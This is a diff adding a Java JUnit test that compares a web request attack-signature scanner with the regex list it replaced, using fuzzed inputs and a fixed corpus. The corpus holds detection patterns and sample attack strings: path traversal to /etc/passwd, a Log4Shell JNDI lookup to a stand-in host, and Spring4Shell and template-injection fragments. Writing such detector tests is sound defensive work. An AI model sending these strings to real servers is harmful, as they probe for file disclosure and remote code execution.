@@ -0,0 +1,134 @@
+package com.pmd.security;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.net.URLDecoder;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import java.util.Random;
+import java.util.regex.Pattern;
+import org.junit.jupiter.api.Test;
+
+/**
+ * The scanner replaced a list of regexes; a request it treats differently is either a new false
+ * positive for a user or a hole. The reference below is the previous implementation, verbatim,
+ * and every corpus entry and generated input must get the same verdict from both.
+ */
+class AttackSignatureScannerTest {
+
+    private static final List<Pattern> REFERENCE_PATTERNS = List.of(
+        Pattern.compile("#set\\s*\\(", Pattern.CASE_INSENSITIVE),
+        Pattern.compile("\\$\\{[^}]+\\}", Pattern.CASE_INSENSITIVE),
+        Pattern.compile("<xsl:", Pattern.CASE_INSENSITIVE),
+        Pattern.compile("xmlns:xsl", Pattern.CASE_INSENSITIVE),
+        Pattern.compile("java\\.lang\\.Runtime", Pattern.CASE_INSENSITIVE),
+        Pattern.compile("\\.forName\\(", Pattern.CASE_INSENSITIVE),
+        Pattern.compile("class\\.module\\.classLoader", Pattern.CASE_INSENSITIVE),
+        Pattern.compile("\\.\\./"),
+        Pattern.compile("%2e%2e%2f", Pattern.CASE_INSENSITIVE),
+        Pattern.compile("\\.htaccess", Pattern.CASE_INSENSITIVE),
+        Pattern.compile("\\.env", Pattern.CASE_INSENSITIVE)
+    );
+
+    private static final List<String> BLOCKED = List.of(
+        "/api/../../etc/passwd",
+        "/api/%2e%2e/%2e%2e/etc/passwd",
+        "/api/%252e%252e%252fetc",
+        "name=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
+        "${jndi:ldap://evil/a}",
+        "x=$%7B%7B%7D",
+        "tpl=%23set+(%24x%3D1)",
+        "#SET\t\n(",
+        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+        "CLASS.MODULE.CLASSLOADER",
+        "Class.forName(%22x%22)",
+        "java.lang.Runtime.getRuntime()",
+        "%3Cxsl:stylesheet",
+        "xmlns:XSL",
+        "/api/.env",
+        "/api/.ENV.bak",
+        "/uploads/.htaccess",
+        "%-0../",
+        "%٢e%٢e%٢f",
+        "caf%C3%A9/../x",
+        "%zz../",
+        "%-1../"
+    );
+
+    private static final List<String> ALLOWED = List.of(
+        "/api/workspaces/6650f3a2c1e4b20d9c1a7f21/projects",
+        "status=IN_PROGRESS&teamId=team-3&cursor=2026-02-01T10%3A15%3A00Z%2C6650f3a2c1e4b20d9c1a7f21&limit=50",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0",
+        "q=maria%20georgiou&includeAdmins=false",
+        "q=caf%C3%A9+au+lait",
+        "q=%FF%FE",
+        "${}",
+        "${}}",
+        "#set x(",
+        "#settings(",
+        "./env",
+        "environment",
+        "100%",
+        "class.module.cla\u017Fsloader",
+        "   "
+    );
+
+    private static final String[] FRAGMENTS = {
+        "a", "Z", "/", ".", "..", "../", "%", "%2", "%2e", "%2E", "%2f", "%25", "%-0", "%+f", "%-1", "%zz",
+        "%C3", "%A9", "%FF", "%E2%82", "+", " ", "\t", "(", ")", "$", "{", "}", "${", "#", "#set", "#SeT",
+        "env", ".env", ".EnV", "htaccess", "xsl", "<xsl:", "xmlns:", "forName(", ".forname", "java.lang.",
+        "Runtime", "class.module.", "classLoader", "é", "K", "٢", "?", "&", "="
+    };
+
+    private static boolean reference(String input) {
+        if (input == null || input.isBlank()) {
+            return false;
+        }
+        String decoded;
+        try {
+            decoded = URLDecoder.decode(input, StandardCharsets.UTF_8);
+        } catch (IllegalArgumentException ex) {
+            decoded = input;
+        }
+        for (Pattern pattern : REFERENCE_PATTERNS) {
+            if (pattern.matcher(decoded).find()) {
+                return true;
+            }
+        }
+        return false;
+    }
+
+    @Test
+    void corpusVerdictsMatchTheRegexList() {
+        for (String input : BLOCKED) {
+            assertTrue(reference(input), "reference should block " + input);
+            assertTrue(AttackSignatureScanner.matches(input), "should block " + input);
+        }
+        for (String input : ALLOWED) {
+            assertFalse(reference(input), "reference should allow " + input);
+            assertFalse(AttackSignatureScanner.matches(input), "should allow " + input);
+        }
+        assertFalse(AttackSignatureScanner.matches(null));
+    }
+
+    @Test
+    void generatedInputsGetTheSameVerdictAsTheRegexList() {
+        Random random = new Random(20261017L);
+        int blocked = 0;
+        for (int n = 0; n < 50_000; n++) {
+            StringBuilder input = new StringBuilder();
+            int parts = 1 + random.nextInt(8);
+            for (int p = 0; p < parts; p++) {
+                input.append(FRAGMENTS[random.nextInt(FRAGMENTS.length)]);
+            }
+            String value = input.toString();
+            boolean expected = reference(value);
+            assertEquals(expected, AttackSignatureScanner.matches(value), () -> "verdict differs for " + value);
+            blocked += expected ? 1 : 0;
+        }
+        // Guard against a generator that only ever produces one verdict.
+        assertTrue(blocked > 1_000 && blocked < 49_000, "blocked " + blocked);
+    }
+}